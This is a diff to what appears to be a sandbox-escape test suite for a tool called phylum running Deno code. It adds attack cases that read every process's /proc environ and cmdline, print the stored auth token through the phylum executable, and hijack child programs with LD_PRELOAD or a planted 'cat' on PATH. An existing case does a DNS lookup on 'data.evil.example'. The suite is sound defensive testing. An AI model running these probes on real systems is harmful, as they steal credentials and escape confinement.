@@ -9,7 +9,7 @@ import { join } from 'node:path'
 import { test } from 'node:test'
 import { createCanary, findLeak } from '../harness/canary.ts'
 import { startFakeApi } from '../harness/fake_api.ts'
-import { DENO, FORMS, outcomeOf, withHome } from '../harness/phylum.ts'
+import { DENO, EXECUTABLE, FORMS, outcomeOf, withHome } from '../harness/phylum.ts'
 
 interface Attack {
   name: string
@@ -151,7 +151,7 @@ const ATTACKS: Attack[] = [
     code: `import dns from 'node:dns/promises'
       const asked = []
       for (const ask of [() => Deno.resolveDns('data.evil.example', 'A'), () => dns.lookup('localhost')]) {
-        try { await ask(); asked.push('ANSWERED') } catch (error) { asked.push(error.name === 'NotCapable' || error.code === 'EPERM' || /Requires net/.test(error.message) ? 'refused' : 'ANSWERED') }
+        try { await ask(); asked.push('ANSWERED') } catch (error) { asked.push(error.name === 'NotCapable' || error.code === 'EPERM' || /Requires net|io error/.test(error.message) ? 'refused' : 'ANSWERED') }
       }
       console.log(asked.includes('ANSWERED') ? 'ASKED' : 'refused')`,
     loot: /ASKED/,
@@ -164,6 +164,59 @@ const ATTACKS: Attack[] = [
       try { console.log(execSync('echo STARTED').toString()) } catch {}
       try { console.log(String(spawnSync('/bin/echo', ['STARTED']).stdout)) } catch {}`,
     loot: /STARTED/,
+  },
+  {
+    name: 'A3 has a program read the environment of every process, and the settings',
+    permissions: `${EVERYTHING}\nrun = ["sh", "cat"]`,
+    code:
+      `for (const path of ['/proc/$PPID/environ', '/proc/1/environ', '/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline', SETTINGS, '/proc/1/root' + SETTINGS]) {
+        const { stdout } = new Deno.Command('sh', { args: ['-c', 'cat ' + path] }).outputSync()
+        console.log(new TextDecoder('latin1').decode(stdout))
+      }`,
+  },
+  {
+    name: 'A15 runs phylum itself, which knows the credential',
+    permissions: `${EVERYTHING}\nrun = [${JSON.stringify(EXECUTABLE)}]`,
+    code: `const { stdout, stderr } = new Deno.Command(${
+      JSON.stringify(EXECUTABLE)
+    }, { args: ['auth', 'token'] }).outputSync()
+      console.log(new TextDecoder().decode(stdout), new TextDecoder().decode(stderr))`,
+  },
+  {
+    name: 'E71 writes to the terminal that its user sits at',
+    permissions: 'run = ["sh"]',
+    code:
+      `const { success } = new Deno.Command('sh', { args: ['-c', 'ls /dev/tty && echo x > /dev/null'] }).outputSync()
+      console.log(success ? 'REACHED' : 'nothing')`,
+    loot: /REACHED/,
+  },
+  {
+    name: 'E75 steers a program that it starts by variables of the loader',
+    permissions: 'run = ["sh"]',
+    code: `for (const name of ['LD_PRELOAD', 'LD_AUDIT', 'LD_LIBRARY_PATH']) {
+        try {
+          const { stdout } = new Deno.Command('sh', { args: ['-c', 'echo $' + name], env: { [name]: '/STEERED' } }).outputSync()
+          console.log(new TextDecoder().decode(stdout))
+        } catch (error) { console.log(error.name) }
+      }`,
+    loot: /STEERED/,
+  },
+  {
+    name: 'E76 has an interpreter start what it may not start itself',
+    permissions: 'run = ["sh"]',
+    code:
+      `const { stdout } = new Deno.Command('sh', { args: ['-c', '/bin/ls -d / && echo STARTED; /usr/bin/env echo STARTED'] }).outputSync()
+      console.log(new TextDecoder().decode(stdout))`,
+    loot: /STARTED/,
+  },
+  {
+    name: 'E74 puts a program of its own where another is looked for',
+    permissions: 'read = ["./"]\nwrite = ["./"]\nenv = ["PATH"]\nrun = ["cat"]',
+    code: `Deno.writeTextFileSync('cat', '#!/bin/sh\\necho REPLACED\\n', { mode: 0o755 })
+      for (const [command, env] of [['cat', { PATH: Deno.cwd() + ':/usr/bin' }], ['./cat', {}], [Deno.cwd() + '/cat', {}]]) {
+        try { console.log(new TextDecoder().decode(new Deno.Command(command, { args: ['/dev/null'], env }).outputSync().stdout)) } catch {}
+      }`,
+    loot: /REPLACED/,
   },
   {
     name: 'D67 loads native code',
